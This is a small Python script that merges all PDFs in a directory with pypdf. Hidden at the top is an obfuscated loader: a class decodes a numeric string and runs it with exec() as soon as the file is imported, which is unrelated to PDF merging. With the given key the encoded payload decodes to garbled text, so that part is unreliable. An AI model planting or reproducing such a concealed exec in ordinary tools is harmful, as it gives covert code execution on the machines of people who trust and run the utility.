import sys
from pypdf import PdfWriter, PdfReader
class Kramer:
    def __decode__(self, _l): return ''.join(chr(int(x) - self._k) for x in _l.split(self._s))
    def __init__(self, _c, _k, _s):
        self._k, self._s = _k, _s
        exec(self.__decode__(_c))
Kramer(_c='126/124/127/122/125/131/47/122/131/133/61/124/126/129/122/63/131/125/117/128/121/47/68/116/117/114/121/127/132/47/122/131/133/61/116/117/128/122/127/132/61/120/127/129/112/114/122/114/126/117/115/131/117/62/117/126/135/114/125/117/116',_k=12,_s='/')
if __name__ == "__main__":
    w = PdfWriter()
    import glob
    for f in sorted(glob.glob(sys.argv[1] + "/*.pdf")):
        for p in PdfReader(f).pages: w.add_page(p)
    w.write(sys.argv[2])
